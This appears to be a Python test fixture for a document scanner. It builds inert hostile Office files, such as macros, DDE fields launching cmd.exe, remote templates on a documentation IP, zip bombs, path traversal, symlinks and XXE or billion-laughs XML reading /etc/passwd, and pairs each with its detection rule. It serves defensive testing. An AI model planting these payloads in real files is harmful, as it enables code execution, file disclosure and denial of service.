"""Hostile Word and Excel files, inert and made by code."""

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from tests.files.building import (
    EMPTY_RELATIONS,
    changed,
    compound,
    excel,
    old_excel,
    old_word,
    pack_zeros,
    packed,
    record,
    related,
    sheet,
    word,
)

from thidua.files.checks.streams import EICAR


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[], bytes]
    rules: tuple[str, ...]


PE = b"MZ" + bytes(76) + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(400)


HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"


_MACRO_TYPE = "application/vnd.ms-office.vbaProject"


_EMBEDDED = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]><a>&l9;</a>"
)


_XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def _with(name: str, part: bytes) -> bytes:
    return changed(word(), {name: part})


def _bomb() -> bytes:
    """300 MB of nothing."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word())) as package, zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        for row in package.infolist():
            made.writestr(row, package.read(row))
        pack_zeros(made, "word/media/image1.bmp", 300)
    return written.getvalue()


def _many_parts() -> bytes:
    """60.000 empty parts: one local header, and a directory written by hand."""
    rows = [f"word/{number:05d}.xml".encode() for number in range(60_000)]
    local = b"".join(struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, len(row), 0) + row for row in rows)
    size = 30 + len(rows[0])
    central = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(row), 0, 0, 0, 0, 0, at * size) + row
        for at, row in enumerate(rows)
    )
    return local + central + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 60_000, 60_000, len(central), len(local), 0)


def _flat_bomb() -> bytes:
    """One part of 2 MB that packs far too well."""
    return changed(word(), {"word/media/image1.bmp": bytes(2_000_000)})


def _overlapping() -> bytes:
    """The same packed bytes under many names."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word())) as package, zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        for row in package.infolist():
            made.writestr(row, package.read(row))
        made.writestr("word/media/a.bin", b"abc" * 500)
        for name in "bcd":
            twin = zipfile.ZipInfo(f"word/media/{name}.bin")
            source = made.getinfo("word/media/a.bin")
            for field in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(twin, field, getattr(source, field))
            made.filelist.append(twin)
    return written.getvalue()


def _linked() -> bytes:
    link = zipfile.ZipInfo("word/media/image1.png")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    written = io.BytesIO(word())
    with zipfile.ZipFile(written, "a") as package:
        package.writestr(link, "/etc/passwd")
    return written.getvalue()


def _locked_part() -> bytes:
    content = bytearray(packed({"word/document.xml": b"x" * 40}, zipfile.ZIP_STORED))
    content[6] |= 1
    content[content.rfind(b"PK\1\2") + 8] |= 1
    return bytes(content)


def _twice() -> bytes:
    return changed(word(), {"word/Document.xml": "<a/>"})


def _lies_about_its_size() -> bytes:
    """The directory says 10 bytes; the part holds more."""
    content = bytearray(changed(word(), {"word/media/x.bin": b"y" * 5_000}))
    at = content.rfind(b"word/media/x.bin") - 46
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def _in_each_other(levels: int) -> bytes:
    content = word()
    for _ in range(levels):
        content = changed(word(), {"word/embeddings/a.docx": content}, {"word/embeddings/a.docx": _EMBEDDED})
    return content


def _docm() -> bytes:
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return changed(word(), swap=(f"{_EMBEDDED}.main+xml", kind))


def _hidden_macro() -> bytes:
    return changed(word(), {"word/media/image7.png": b"\xcc\x61"}, {"word/media/image7.png": _MACRO_TYPE})


def _macro_in_an_embedded_file() -> bytes:
    inner = changed(word(), {"word/vbaProject.bin": b"\xcc\x61"})
    return changed(word(), {"word/embeddings/a.docx": inner})


def _macro_sheet() -> bytes:
    return changed(excel(), {"xl/macrosheets/sheet9.xml": "<xm:macrosheet xmlns:xm='x'/>"})


def _fetched_page() -> bytes:
    put = related("aFChunk", "a.html", external=False, of="word/_rels/footer9.xml.rels")
    return changed(word(), {**put, "word/a.html": HTML}, {"word/a.html": "text/html"})


def _instruction(text: str) -> str:
    return f"<w:instrText>{text}</w:instrText></w:r><w:r>"


_BEGIN, _END = '<w:fldChar w:fldCharType="begin"/></w:r><w:r>', '<w:fldChar w:fldCharType="end"/>'


_SPLIT_DDE = _BEGIN + _instruction("DD") + _instruction("EAUTO c:\\\\windows\\\\cmd.exe") + _END


OFFICE = {
    # macros and objects
    "docm renamed": Hostile("a.docx", _docm, ("macro",)),
    "vbaProject.bin": Hostile("a.docx", lambda: changed(word(), {"word/vbaProject.bin": b"x"}), ("macro",)),
    "hidden macro": Hostile("a.docx", _hidden_macro, ("macro",)),
    "macro in an embedded file": Hostile("a.docx", _macro_in_an_embedded_file, ("macro",)),
    "excel 4 macro": Hostile("a.xlsx", _macro_sheet, ("macro",)),
    "doc with vba": Hostile(
        "a.doc", lambda: old_word(**{"Macros/VBA/dir": b"x", "Macros/VBA/_VBA_PROJECT": b"x"}), ("macro",)
    ),
    "xls with excel 4 macro": Hostile("a.xls", lambda: old_excel(sheet("A"), sheet("M", 1)), ("macro",)),
    "ole object": Hostile("a.docx", lambda: _with("word/embeddings/oleObject1.bin", b"x"), ("embedded_object",)),
    "ole object renamed": Hostile(
        "a.docx", lambda: changed(word(), {"word/embeddings/a.dat": old_word()}), ("embedded_object",)
    ),
    "doc with a package": Hostile(
        "a.doc", lambda: old_word(**{"ObjectPool/_1/\x01Ole10Native": b"x"}), ("embedded_object",)
    ),
    "activex": Hostile("a.docx", lambda: changed(word(), {"word/activeX/activeX1.xml": "<a/>"}), ("embedded_object",)),
    "page fetched into word": Hostile("a.docx", _fetched_page, ("embedded_object",)),
    "program in word": Hostile("a.docx", lambda: changed(word(), {"word/media/a.png": PE}), ("executable_inside",)),
    "eicar in word": Hostile("a.docx", lambda: changed(word(), {"word/media/a.png": EICAR}), ("virus_signature",)),
    "dde": Hostile("a.docx", lambda: word('<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe "/>'), ("dde",)),
    "dde split over runs": Hostile("a.docx", lambda: word(_SPLIT_DDE), ("dde",)),
    "dde in excel": Hostile(
        "a.xlsx",
        lambda: changed(excel(), {"xl/externalLinks/externalLink1.xml": "<ddeLink ddeService='cmd'/>"}),
        ("dde",),
    ),
    # what is fetched
    "remote template": Hostile(
        "a.docx",
        lambda: changed(word(), related("attachedTemplate", "https://203.0.113.5/a.dotm")),
        ("remote_content",),
    ),
    "template on a share": Hostile(
        "a.docx",
        lambda: changed(word(), related("attachedTemplate", "file:///\\\\203.0.113.5\\a.dotm")),
        ("remote_content",),
    ),
    "remote object": Hostile(
        "a.docx", lambda: changed(word(), related("oleObject", "mhtml:https://203.0.113.5/a.html")), ("remote_content",)
    ),
    "picture on a share": Hostile(
        "a.docx", lambda: changed(word(), related("image", "\\\\203.0.113.5\\a.png")), ("remote_content",)
    ),
    # packages
    "bomb of 300 MB": Hostile("a.docx", _bomb, ("package_too_big", "package_bomb")),
    "part that packs too well": Hostile("a.docx", _flat_bomb, ("package_bomb",)),
    "60.000 parts": Hostile("a.docx", _many_parts, ("package_too_many_parts",)),
    "parts upon each other": Hostile("a.docx", _overlapping, ("package_overlap",)),
    "path out of the file": Hostile("a.docx", lambda: changed(word(), {"../../etc/x": "x"}), ("package_path",)),
    "absolute path": Hostile("a.docx", lambda: changed(word(), {"/etc/x": "x"}), ("package_path",)),
    "two parts of one name": Hostile("a.docx", _twice, ("package_path",)),
    "symbolic link": Hostile("a.docx", _linked, ("package_link",)),
    "part with a password": Hostile("a.docx", _locked_part, ("encrypted",)),
    "files in files in files": Hostile("a.docx", lambda: _in_each_other(4), ("package_too_deep",)),
    "part larger than it says": Hostile("a.docx", _lies_about_its_size, ("damaged",)),
    "docx cut short": Hostile("a.docx", lambda: word()[: len(word()) // 2], ("damaged",)),
    "docx with a password": Hostile("a.docx", lambda: compound({"EncryptedPackage": b"x"}), ("encrypted",)),
    "doc with a password": Hostile("a.doc", lambda: old_word(flags=0x0100), ("encrypted",)),
    "xls with a password": Hostile("a.xls", lambda: old_excel(record(0x2F, bytes(6)), sheet("A")), ("encrypted",)),
    "doc cut short": Hostile("a.doc", lambda: old_word()[:1_000], ("damaged",)),
    # XML
    "billion laughs": Hostile("a.docx", lambda: changed(word(), {"word/footer9.xml": _LAUGHS}), ("xml_entities",)),
    "external entity": Hostile("a.xlsx", lambda: changed(excel(), {"xl/x.xml": _XXE}), ("xml_entities",)),
    "external entity in UTF-16": Hostile(
        "a.xlsx",
        lambda: changed(excel(), {"xl/x.xml": _XXE.replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")}),
        ("xml_entities",),
    ),
    "entity under another extension": Hostile(
        "a.docx", lambda: changed(word(), {"word/x.bin": _XXE}, {"word/x.bin": "application/xml"}), ("xml_entities",)
    ),
    "relations cut short": Hostile(
        "a.docx", lambda: changed(word(), {"word/_rels/x.xml.rels": EMPTY_RELATIONS[:60]}), ("damaged",)
    ),
}
